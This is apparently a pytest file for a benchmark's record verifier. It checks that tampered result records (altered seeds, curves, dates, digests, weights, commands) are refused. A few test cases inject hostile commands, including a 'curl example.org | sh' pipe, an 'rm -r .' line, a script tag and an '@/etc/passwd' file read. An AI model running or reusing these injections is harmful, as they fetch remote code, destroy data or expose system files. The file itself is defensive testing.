"""Every forgery that an audit tried and that can be computed is refused; see also test_retraining.

Each edits a sound record as somebody would who knows the code: every digest is mended, and what
follows from the edit is changed with it.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

import numpy as np
import pytest
from forging import (
    Content,
    Forgery,
    as_solver,
    edit,
    edit_main,
    edit_spec,
    edit_training,
    find,
    problem_of,
    reseal,
    solver,
    states_of,
    values_of,
    with_values,
    with_weights,
)

from iclbench import RecordStore, verify


def edit_command(old: str, new: str) -> Forgery:
    return edit(lambda c: c.update(command=c["command"].replace(old, new)))


def edit_curve(change: Callable[[Content], object]) -> Forgery:
    def forge(folder: Path) -> Path:
        path = solver(folder, "gradient-descent")
        return reseal(path, lambda c: change(c["evaluations"]["main"]["curves"]))

    return forge


def zero_curve(curves: Content) -> None:
    for name in ("mean", "median", "max", "low", "high"):
        curves["prefix_error"][name] = [0.0] * len(curves["prefix_error"][name])


def seed_twice(folder: Path) -> Path:
    path = find(folder)
    state, values = states_of(path)[0], values_of(path)
    path = with_values(path, {name: np.stack([v[0], v[0]]) for name, v in values.items()})
    return with_weights(path, {0: state, 1: {name: v.clone() for name, v in state.items()}})


def seed_nearly_twice(folder: Path) -> Path:
    """One seed's weights for both, those of the second in other last places."""
    path = find(folder)
    state = states_of(path)[0]
    return with_weights(path, {0: state, 1: {n: v * (1 + 2e-7) for n, v in state.items()}})


def other_number(value: object) -> Forgery:
    """An argument that is equal and another number, in the spec and in the command."""

    def change(content: Content) -> None:
        content["spec"]["model_args"]["layers"] = value
        content["command"] = content["command"].replace("layers=1", f"layers={json.dumps(value)}")

    return edit(change)


def proved(**fields: object) -> Forgery:
    """A proof that its author wrote."""

    def change(content: Content) -> None:
        proof = {"kind": "evaluated", "created": content["created"],
                 "environment": content["environment"], "plugins": content["plugins"]}  # fmt: skip
        content["proof"] = {**proof, **fields}

    return edit(change)


def seeds_listed(*seeds: int | None) -> Forgery:
    def change(content: Content) -> None:
        content["seeds"] = [{"seed": seed, "diverged_at": None} for seed in seeds]
        main = content["evaluations"]["main"]
        main["seeds"] = [main["seeds"][0] for _ in seeds]

    return edit(change)


def seeds_repeated(folder: Path) -> Path:
    """Two copies of one seed, in the spec and the command too."""

    def change(content: Content) -> None:
        content["seeds"] = [{"seed": 0, "diverged_at": None}] * 2
        content["spec"]["seeds"] = [0, 0]
        content["command"] = content["command"].replace("--seeds 2", "--seeds 0,0,")

    return reseal(find(folder), change)


def thirds_near_the_floor(folder: Path) -> Path:
    path = solver(folder, "least-squares-qr")
    return with_values(path, {"squared_error": values_of(path)["squared_error"] / 9})


def permuted(model: str) -> Forgery:
    def forge(folder: Path) -> Path:
        path = find(folder) if model == "baseconv" else solver(folder, model)
        values = values_of(path)["squared_error"]
        order = np.random.default_rng(0).permutation(values.shape[1])
        return with_values(path, {"squared_error": values[:, order]})

    return forge


def one_prompt_better(folder: Path) -> Path:
    path = find(folder)
    values = values_of(path)["squared_error"].copy()
    values[0, 5] *= 0.9
    return with_values(path, {"squared_error": values})


def as_constructed(content: Content) -> None:
    as_solver(content)
    content["spec"].update(origin="constructed", weights="gd-causal")
    content["command"] = content["command"].split(" --recipe")[0] + " --weights gd-causal"


REFUSED: dict[str, Forgery] = {
    "ranking.better": edit(lambda c: c["ranking"].update(better="higher")),
    "ranking.statistic": edit(lambda c: c["ranking"].update(statistic="mean")),
    "chance": edit(lambda c: c.update(chance=True)),
    "title": edit_main(title="least-squares: on photographs"),
    "ranking.scale": edit(lambda c: c["ranking"].update(scale="linear")),
    "ranking.metric": edit(lambda c: c["ranking"].update(metric="other")),
    "a command with a shell line": edit(
        lambda c: c.update(command=c["command"] + "; curl example.org | sh")
    ),
    "a command on two lines": edit(lambda c: c.update(command=c["command"] + "\nrm -r .")),
    "a command with Markdown": edit(
        lambda c: c.update(command=c["command"] + "\n```\n<script>alert(1)</script>\n```bash")
    ),
    "a command that reads a file": edit_command("dim=2,examples=4", "@/etc/passwd"),
    "the command of another run": edit_command(" --recipe smoke", ""),
    "evaluation.task_args": edit_main(task_args={"dim": 20, "examples": 40}),
    "evaluation.prompts": edit_main(prompts=2048),
    "evaluation.seed": edit_main(seed=7),
    "evaluation.digest": edit_main(digest="0" * 64),
    "evaluation.shift": edit_main(shift="harder"),
    "another evaluation": edit(
        lambda c: c["evaluations"].update(better=c["evaluations"]["main"])
    ),
    "training.steps": edit_training(steps=1),
    "the recipe's steps": edit(lambda c: c["spec"]["recipe_args"].update(steps=10)),
    "the recipe's name": edit_spec(recipe="quick"),
    "no training": edit(lambda c: c.update(training=None)),
    "one seed's weights under both": seed_twice,
    "one seed's weights under both, nearly": seed_nearly_twice,
    "a whole number with a point": other_number(1.0),
    "a whole number as a truth value": other_number(True),
    "a spec's number without a point": edit_spec(perturb=0),
    "a field of the spec left out": edit(lambda c: c["spec"].pop("checkpoint_digest")),
    "a field of the spec without a value": edit_spec(budget=None),
    "a proof of more than was checked": proved(same_bits=True),
    "a proof of the future": proved(created="2999-01-01T00:00:00+00:00"),
    "a negative number of threads": edit(lambda c: c["environment"].update(threads=-5)),
    "a reason for what no record lacks": edit(lambda c: c.update(missing={"tuning": "lost"})),
    "repeated seeds": seeds_listed(0, 0),
    "repeated seeds everywhere": seeds_repeated,
    "invented seeds": seeds_listed(0, 7),
    "a seed more": seeds_listed(0, 1, 2),
    "no seeds": seeds_listed(),
    "seeds without numbers": seeds_listed(None, None),
    "trained as solver": edit(as_solver),
    "trained as constructed": edit(as_constructed),
    "trained as loaded": edit_spec(origin="loaded"),
    "errors divided by three at the floor": thirds_near_the_floor,
    "permuted prompts": permuted("baseconv"),
    "permuted prompts at the floor": permuted("least-squares-qr"),
    "one prompt's error": one_prompt_better,
    "curves dropped": edit_curve(lambda curves: curves.clear()),
    "a curve of zeros": edit_curve(zero_curve),
    "a curve's axis": edit_curve(lambda curves: curves["prefix_error"].update(axis="step")),
    "a curve's positions": edit_curve(
        lambda curves: curves["prefix_error"].update(values=[0, 10, 20, 30, 40])
    ),
    "negative seconds of training": edit_training(seconds=-1.0),
    "tiny seconds of training": edit_training(seconds=1e-9, steps_per_second=4e10),
    "seconds that contradict the rate": edit_training(seconds=1e3),
    "negative seconds of evaluation": edit_main(seconds=-1.0),
    "tiny seconds of evaluation": edit_main(seconds=1e-9),
    "a date of the future": edit(lambda c: c.update(created="2999-01-01T00:00:00+00:00")),
    "a date before the schema": edit(lambda c: c.update(created="2020-01-01T00:00:00+00:00")),
    "a date that is none": edit(lambda c: c.update(created="yesterday <b>")),
    "floor.name": edit(lambda c: c["evaluations"]["main"]["floor"].update(name="QR")),
    "floor.kind": edit(lambda c: c["evaluations"]["main"]["floor"].update(kind="bayes")),
    "plugins left out": edit(lambda c: c.update(plugins=c["plugins"][:1])),
    "another distribution": edit(lambda c: c["plugins"][0].update(distribution="other")),
    "unknown recipe arguments": edit(lambda c: c["spec"]["recipe_args"].update(magic=1)),
    "unknown recipe arguments in the command": edit_command(
        "--recipe smoke", "--recipe smoke --recipe-args magic=1"
    ),
    "an invented init": edit_spec(init="gd-causal"),
    "an invented init in the command": edit_command("--recipe", "--init gd-causal --recipe"),
    "an invented freeze": edit_spec(freeze=["*"]),
    "an invented checkpoint": edit_spec(checkpoint_digest="0" * 64),
    "an invented data digest": edit_spec(data_digest="0" * 64),
    "weights of other content": edit(lambda c: c["weights"].update(sha256="0" * 64)),
    "parameters": edit(lambda c: c.update(parameters=1)),
    "another state": edit(lambda c: c.update(state_sizes=[1])),
    "operations": edit(lambda c: c.update(operations={"forward": 1.0, "training": 1.0})),
    "a track": edit(lambda c: c.update(track="10m")),
    "a tuning": edit(lambda c: c.update(tuning={"sha256": "0" * 64, "document": {}})),
    "a divergence after the end": edit(lambda c: c["seeds"][0].update(diverged_at=99)),
    "the points of the training curve": edit_training(curve_steps=[7]),
    "a grader": edit(lambda c: c.update(grader={"name": "pmi"})),
}  # fmt: skip


@pytest.mark.parametrize("option", ["--weights", "--init"])
@pytest.mark.parametrize("digest", [None, "0" * 64])
def test_verifying_reads_no_file_that_a_command_names(records, tmp_path, option, digest):
    elsewhere = tmp_path / "elsewhere.safetensors"
    elsewhere.write_bytes(b"must not be read")

    def change(content: Content) -> None:
        start, recipe, end = content["command"].partition(" --recipe")
        end = recipe + end if option == "--init" else " --eval-prompts 64"
        content["command"] = f"{start} {option} {elsewhere}{end}"
        content["spec"]["checkpoint_digest"] = digest

    problem = problem_of(reseal(find(records), change), verify)
    assert problem
    assert "can't be read" not in problem
    if option == "--weights" or digest is None:
        assert "reads weights from" in problem


@pytest.mark.parametrize("name", REFUSED)
def test_a_forgery_that_can_be_computed_is_refused(records, name):
    path = REFUSED[name](records)
    assert problem_of(path, verify)


def test_all_sound_records_hold(sound):
    for path in RecordStore(sound).paths():
        assert [check for check in verify(path) if not check.holds] == []
